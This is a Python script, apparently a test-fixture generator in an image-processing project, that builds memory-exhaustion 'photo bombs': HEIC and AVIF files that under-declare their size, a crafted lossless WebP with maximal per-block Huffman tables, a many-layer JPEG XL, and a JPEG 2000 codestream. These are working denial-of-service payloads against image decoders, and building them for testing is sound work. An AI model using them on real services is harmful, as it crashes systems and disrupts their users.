#!/usr/bin/python3
"""Makes photos that take far more memory than they say.

usage: make_photo_bombs.py OUT [WIDTH HEIGHT]

bomb.heic and bomb.avif hold a plain picture of WIDTH x HEIGHT (16384 x 12288, for which the encoders
take 3 GB) and say 64 x 64.  bomb.webp is a lossless WebP of 1024 x 1024 pixels with Huffman codes
of its own for every block of 4 x 4, each nearly as large in memory as a decoder's tables can be.
bomb.jxl has 40 layers of 3000 x 3000 pixels, and bomb.j2k WIDTH x HEIGHT pixels in blocks of 4 x 4.

Needs PIL, numpy, heif-enc (libheif-examples) and cjxl (libjxl-tools).
"""
import os
import struct
import subprocess
import sys
import tempfile

from PIL import Image

import heif_file
from photo_kinds import heif_enc

REPEAT = 16  # the length before, again
LENGTH_ORDER = (17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15)


class Bits:
    """From the lowest of each byte on, as VP8L has them ("WebP Lossless Bitstream")."""

    def __init__(self):
        self.value, self.count = 0, 0

    def put(self, value, count):
        self.value |= value << self.count
        self.count += count

    def bytes(self):
        return self.value.to_bytes((self.count + 7) // 8, 'little')


def canonical(lengths):
    """{symbol: (code, lowest bit first; bits)}"""
    codes, code, last = {}, 0, 0
    for bits, symbol in sorted((bits, symbol) for symbol, bits in enumerate(lengths) if bits):
        code <<= bits - last
        codes[symbol], last = (int(format(code, '0%db' % bits)[::-1], 2), bits), bits
        code += 1
    return codes


def put_one_symbol(bits, symbol):
    """A code of one symbol, which takes no bits."""
    bits.put(0b101, 3)
    bits.put(symbol, 8)


def put_code(bits, lengths):
    """A code by the length of each symbol's; the lengths themselves have a code of 4 bits each."""
    used = sorted(set(lengths) | {REPEAT})
    used += [length for length in range(REPEAT) if length not in used][:16 - len(used)]
    meta = [4 if length in used else 0 for length in range(len(LENGTH_ORDER))]
    codes = canonical(meta)
    bits.put(0, 1)
    bits.put(len(LENGTH_ORDER) - 4, 4)
    for symbol in LENGTH_ORDER:
        bits.put(meta[symbol], 3)
    bits.put(0, 1)
    at = 0
    while at < len(lengths):
        run = 1
        while at + run < len(lengths) and lengths[at + run] == lengths[at]:
            run += 1
        bits.put(*codes[lengths[at]])
        at, run = at + 1, run - 1
        while run >= 3 and lengths[at - 1]:
            count = min(run, 6)
            bits.put(*codes[REPEAT])
            bits.put(count - 3, 2)
            at, run = at + count, run - count


def webp(blocks=256, cache_bits=11):
    """Blocks of 4 x 4 pixels, `blocks` a side."""
    largest = [1, 6] + [9] * 247 + [10, 11, 12, 13, 14, 15, 15]  # 630 entries for 256 symbols
    green = [11] * 1768 + [12] * 560  # 280 symbols and the cache's 2048
    distance = [5] * 24 + [6] * 16
    group = Bits()
    for lengths in (green, largest, largest, largest, distance):
        put_code(group, lengths)
    bits = Bits()
    bits.put(0x2F, 8)
    bits.put(4 * blocks - 1, 14)
    bits.put(4 * blocks - 1, 14)
    bits.put(0, 1 + 3 + 1)  # no alpha, version 0, no transform
    bits.put(1, 1)
    bits.put(cache_bits, 4)
    bits.put(1, 1)  # codes by blocks,
    bits.put(0, 3)  # of 4 x 4 pixels
    bits.put(0, 1)  # the picture that names each block's: no cache
    put_code(bits, [8] * 256 + [0] * 24)
    put_code(bits, [8] * 256)
    for _ in range(3):
        put_one_symbol(bits, 0)
    codes = canonical([8] * 256)
    for high in range(blocks * blocks // 256):
        row = Bits()
        for low in range(256):
            row.put(*codes[low])
            row.put(*codes[high])
        bits.put(row.value, row.count)
    # Eight groups fill whole bytes.
    eight = Bits()
    for _ in range(8):
        eight.put(group.value, group.count)
    groups = int.from_bytes(eight.bytes() * (blocks * blocks // 8), 'little')
    bits.put(groups, eight.count * (blocks * blocks // 8))
    bits.put(0, 8 * 4096)  # and pixels, as far as anybody gets
    data = bits.bytes()
    data += bytes(len(data) % 2)
    return b'RIFF' + struct.pack('<I', 12 + len(data)) + b'WEBPVP8L' + struct.pack(
        '<I', len(data)) + data


def heif(suffix, width, height):
    plain = Image.new('RGB', (width, height), (90, 120, 60))
    options = ('-p', 'x265:level-idc=8.5') if suffix == 'heic' else ()
    config, coded, _ = heif_file.coded_picture(heif_enc(plain, suffix, options))
    return heif_file.build([(config, coded, (64, 64))], (64, 64))


def jxl(side=3000, layers=40):
    """Layers of a plain colour, each as large as the picture: frames of no duration."""
    with tempfile.TemporaryDirectory() as folder:
        gif, path = os.path.join(folder, 'a.gif'), os.path.join(folder, 'a.jxl')
        frames = [Image.new('RGB', (side, side), (90 + i, 120, 60)) for i in range(layers)]
        frames[0].save(gif, save_all=True, append_images=frames[1:], duration=0)
        subprocess.run(['cjxl', '--quiet', '-d', '0', '-e', '1', gif, path], check=True)
        with open(path, 'rb') as file:
            return file.read()


def jp2(width, height):
    """A codestream whose blocks of coefficients have 4 x 4 each, and no byte for any of them."""
    grid = struct.pack('>8I', width, height, 0, 0, width, height, 0, 0)
    size = b'\xff\x51' + struct.pack('>HH', 38 + 3, 0) + grid + b'\0\1\7\1\1'
    style = b'\xff\x52\0\x0c\0\0\0\1\0\0\0\0\0\1'
    return b'\xff\x4f' + size + style + b'\xff\x5c\0\4\x40\x48' + (
        b'\xff\x90\0\x0a\0\0\0\0\0\x0f\0\1\xff\x93\x80\xff\xd9')


def main():
    if len(sys.argv) not in (2, 4):
        sys.exit('usage: make_photo_bombs.py OUT [WIDTH HEIGHT]')
    width, height = map(int, sys.argv[2:] or (16384, 12288))
    os.makedirs(sys.argv[1], exist_ok=True)
    for suffix, data in (('webp', webp()), ('avif', heif('avif', width, height)),
                         ('heic', heif('heic', width, height)), ('jxl', jxl()),
                         ('j2k', jp2(width, height))):
        with open(os.path.join(sys.argv[1], 'bomb.' + suffix), 'wb') as file:
            file.write(data)


if __name__ == '__main__':
    main()
